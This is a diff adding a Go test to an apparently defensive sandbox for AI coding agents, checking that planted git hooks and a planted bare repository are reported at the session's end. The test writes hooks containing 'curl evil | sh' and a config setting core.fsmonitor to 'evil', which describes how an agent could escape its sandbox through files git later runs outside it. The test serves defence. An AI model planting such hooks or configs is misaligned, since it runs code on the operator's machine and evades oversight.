@@ -747,6 +747,54 @@ func TestReviewReportsProtectedModes(t *testing.T) {
 	}
 }
 
+// TestReviewBareRepoAndHooksPath: what name rules cannot protect, the
+// session's end reports (README, known limits): the hooks directory the
+// repository's config names in core.hooksPath (husky's .husky/_), whose
+// hooks git outside runs, and a bare repository the agent plants, whose
+// config git outside obeys (core.fsmonitor) when the operator runs git
+// there. An ordinary directory with a file named config is no finding.
+// An adversarial review found neither reported, as the README claimed.
+func TestReviewBareRepoAndHooksPath(t *testing.T) {
+	s := newSandbox(t, standard)
+	gitRepo(t, s)
+	git := s.lookPath("git")
+	if out, err := exec.Command(git, "-C", s.ws, "config", "core.hooksPath", ".husky/_").CombinedOutput(); err != nil {
+		t.Fatalf("git config: %v: %s", err, out)
+	}
+	pre := s.write("home/proj/.husky/_/pre-commit", "#!/bin/sh\nnpm test\n")
+	post := s.ws + "/.husky/_/post-checkout"
+	a := shq(agent)
+	r := s.sh(a + " write .husky/_/pre-commit 'curl evil | sh' && " + a + " write .husky/_/post-checkout 'curl evil | sh' && " + a + " write .husky/notes.md ordinary")
+	if r.code != 0 {
+		t.Fatalf("the agent's hooks: %s", r)
+	}
+	for _, want := range []string{"modified " + pre, "created " + post} {
+		if !strings.Contains(r.stderr, want) {
+			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
+		}
+	}
+	if strings.Contains(r.stderr, "notes.md") {
+		t.Errorf("a file outside the hooks directory is reported: %s", r.stderr)
+	}
+	planted := s.ws + "/planted"
+	r = s.sh("mkdir -p planted/objects planted/refs ordinary && echo 'ref: refs/heads/main' > planted/HEAD && " +
+		a + " write planted/config '[core]\n\tbare = true\n\tfsmonitor = evil\n' && " + a + " write ordinary/config x")
+	if r.code != 0 {
+		t.Fatalf("the agent's bare repository: %s", r)
+	}
+	if !strings.Contains(r.stderr, "created "+planted+"/config") {
+		t.Errorf("the session's end does not report the planted repository's config: %s", r.stderr)
+	}
+	if strings.Contains(r.stderr, "ordinary/config") {
+		t.Errorf("an ordinary directory's config is reported: %s", r.stderr)
+	}
+	// Control: git outside obeys the planted config.
+	out, _ := exec.Command(git, "-C", planted, "config", "core.fsmonitor").CombinedOutput()
+	if strings.TrimSpace(string(out)) != "evil" {
+		t.Errorf("control: git does not read the planted repository's config: %q", out)
+	}
+}
+
 // TestViewOwners: inside the session's user namespace only the operator's
 // own ids are mapped. Files of other users show the overflow owner
 // (nobody, 65534); the operator's files keep their owner, so git
